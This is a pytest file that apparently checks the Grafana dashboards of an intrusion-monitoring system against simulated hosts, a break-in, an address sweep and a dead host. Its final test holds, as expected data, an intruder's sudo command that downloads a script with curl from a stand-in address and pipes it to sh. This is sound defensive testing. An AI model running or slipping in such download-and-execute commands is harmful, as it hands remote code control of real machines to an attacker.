"""Nine hosts, a break-in and a dead host: what an operator is shown of them, value by value."""

import copy
import re
from typing import Any

import pytest

from tests.dashboards.test_dashboards_queries import ask, named
from tests.support.dashboard_world import DEAD, HOST, INTRUDER, OTHERS, SWEEPER, DashboardWorld
from tests.support.grafana import BOARDS, QUERIES, Query, panels_of, rows_after
from tests.support.real.sandbox import wait_until

ALL: dict[str, Any] = {"host": {"all": ".*"}}
NOWHERE: dict[str, Any] = {"host": ["no-such-host"], "node": "no-such-host"}
OF_ALL_HOSTS = (
    *("Looked at until", "Open findings", "Firing alerts", "Who logged in when"),
    *("Addresses that failed most", "Names tried most", "Targets tried most", "Why logins failed"),
)
"""Panels whose data has no host, as their descriptions say."""
LISTS = [query for query in QUERIES if "findings_current" in query.text and query.kind == "table"]
TILES = [query for query in QUERIES if "findings_current" in query.text and query.kind == "stat"]


def shown(world: DashboardWorld, query: Query, **chosen: Any) -> list[dict[str, Any]]:
    """The rows of a panel after its transformations, of all hosts where none is chosen."""
    (panel,) = (p for p in panels_of(BOARDS[query.board]) if p["title"] == query.panel)
    return rows_after(ask(world, query, **{**ALL, **chosen}), panel.get("transformations", []))


def test_the_break_in_is_what_home_shows_first(nine_hosts: DashboardWorld) -> None:
    """Who got in after failures, and as root, is above what every host on the internet sees."""
    rows = [row for row in shown(nine_hosts, named("now", "Look at these first")) if row["level"]]
    levels = [row["level"] for row in rows]
    assert levels == sorted(levels, reverse=True)
    high = [row for row in rows if row["Severity"] == "high"]
    assert "success_after_failures" in {row["Rule"] for row in high}
    assert {"root_password_login", "account_change"} <= {row["Rule"] for row in rows}
    assert {(row["address"], row["host"]) for row in high} == {(INTRUDER, HOST)}
    assert rows[: len(high)] == high


@pytest.mark.parametrize("query", TILES, ids=lambda query: query.name)
def test_a_tile_counts_the_rows_of_its_table(nine_hosts: DashboardWorld, query: Query) -> None:
    """The sum of the tile's field is the number of rows that the table lists, and the proof."""
    (panel,) = (p for p in panels_of(BOARDS[query.board]) if p["title"] == query.panel)
    field = re.sub(r"\W", "", panel["options"]["reduceOptions"]["fields"])
    rows = shown(nine_hosts, query)
    (table,) = (one for one in LISTS if (one.board, one.text) == (query.board, query.text))
    listed = [row for row in shown(nine_hosts, table) if row["level"]]
    if field in ("high", "medium"):
        listed = [row for row in listed if row["Severity"] == field]
    elif panel.get("transformations"):
        listed = [row for row in listed if row["Rule"] in {one["Rule"] for one in rows}]
    assert sum(row[field] for row in rows) == len(listed) + 0.25


@pytest.mark.parametrize("query", TILES, ids=lambda query: query.name)
def test_no_number_of_findings_is_proven_once_the_aggregator_stopped(
    nine_hosts: DashboardWorld, query: Query
) -> None:
    """Ten minutes after its last look no row proves a sum, so that the tile is grey."""
    later = copy.copy(nine_hosts)
    later.until += 600
    assert [row for row in shown(nine_hosts, query) if row["level"] == 0]
    assert [row for row in shown(later, query) if row["level"] == 0] == []


@pytest.mark.parametrize(
    "query",
    [query for query in QUERIES if query.kind == "stat" and not query.is_promql],
    ids=lambda query: query.name,
)
def test_a_swapped_data_source_is_no_zero(nine_hosts: DashboardWorld, query: Query) -> None:
    """Where events and findings are mistaken for each other there is no answer at all."""
    own = query.target["datasource"]["uid"][2:].partition("_")[0]
    other = {"events": "reports", "reports": "events"}[own]
    assert ask(nine_hosts, query, database=other, **ALL) == []


def test_the_dead_host_is_down_wherever_hosts_are_shown(nine_hosts: DashboardWorld) -> None:
    """By its name and as the worst one; its tiles of what it measured have no answer."""
    # a scrape of another may have timed out on a busy machine
    wait_until(lambda: nine_hosts.ask("count(up == 0) == 1"), "one is down", 60)
    assert ask(nine_hosts, named("now", "Hosts silent"), **ALL) == [1]
    assert ask(nine_hosts, named("hosts", "Hosts down"), **ALL) == [1]
    assert ask(nine_hosts, named("hosts", "Hosts seen"), **ALL) == [9]
    hosts = "Hosts, the worst first"
    problems = ask(nine_hosts, named("hosts", hosts, "problem"), raw=True, **ALL)
    weights = {one["metric"]["instance"]: float(one["value"][1]) for one in problems}
    assert max(weights, key=weights.__getitem__) == nine_hosts.instance(DEAD)
    assert weights[nine_hosts.instance(DEAD)] >= 100_000
    names = ask(nine_hosts, named("hosts", hosts, "name"), raw=True, **ALL)
    assert {one["metric"]["host"] for one in names} == {HOST, *OTHERS}
    own: dict[str, Any] = {"node": DEAD, "instance": nine_hosts.instance(DEAD)}
    assert ask(nine_hosts, named("host", "Scraped"), part=DEAD, **own) == [0]
    for tile in ("CPU used", "Memory used", "Fullest disk", "Users logged in"):
        query = named("host", tile)
        # a rate is known for as long as its interval
        wait_until(lambda q=query: ask(nine_hosts, q, part=DEAD, **own) == [], tile, 60)  # type: ignore[misc]
    wrong = ask(nine_hosts, named("itself", "What is wrong"), raw=True)
    assert nine_hosts.instance(DEAD) in {one["metric"]["instance"] for one in wrong}


@pytest.mark.parametrize(
    "query",
    [
        query
        for query in QUERIES
        if query.board not in ("itself", "host") and query.panel not in OF_ALL_HOSTS
    ],
    ids=lambda query: query.name,
)
def test_a_host_that_is_not_there_empties_every_panel(
    nine_hosts: DashboardWorld, query: Query
) -> None:
    """What is chosen narrows every panel that can be narrowed: only proofs and zeros are left."""
    found = ask(nine_hosts, query, **NOWHERE)
    if query.is_promql:
        assert set(found) <= {0.0}
        return
    told = [row for row in found if row.get("level") != 0]
    values = {value for row in told for name, value in row.items() if name != "time"}
    assert values <= {0, None}


def test_a_click_on_a_host_shows_only_that_host(nine_hosts: DashboardWorld) -> None:
    """Each host of the table opens Investigate with its own events, and has some."""
    events = named("investigate", "Events")
    for host in (HOST, *OTHERS):
        found = ask(nine_hosts, events, since=5 * 86_400, host=[host])
        assert {row["Host"] for row in found} == {host}


def test_the_sweep_is_found_on_every_host(nine_hosts: DashboardWorld) -> None:
    """A click on the sweeper's address shows the finding, and its attempts on all hosts it tried."""
    about = named("investigate", "Findings about it")
    rules = {row["Rule"] for row in ask(nine_hosts, about, address=SWEEPER, **ALL)}
    assert "sweep" in rules
    found = ask(nine_hosts, named("investigate", "Events"), address=SWEEPER, **ALL)
    assert {row["Host"] for row in found} == set(OTHERS)
    assert {row["From"] for row in found} == {SWEEPER}


def test_the_intruders_command_is_shown_in_full(nine_hosts: DashboardWorld) -> None:
    """What the new account ran by sudo, with the address that it was fetched from."""
    ran = named("privileges", "Who ran what as whom")
    objects = {row["Command or object"] for row in ask(nine_hosts, ran, user="dave", **ALL)}
    assert objects == {"/bin/bash -c 'curl http://198.51.100.9/x | sh'"}
